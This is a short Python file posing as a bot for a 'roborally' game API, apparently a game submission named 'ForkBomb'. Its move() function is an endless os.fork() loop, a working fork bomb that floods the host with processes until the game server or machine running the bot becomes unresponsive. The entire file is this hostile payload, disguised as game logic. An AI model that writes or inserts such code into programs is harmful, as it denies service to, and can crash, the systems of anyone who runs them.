import os
from roborally.api import *
name = 'ForkBomb'
def move():
    while True:
        os.fork()
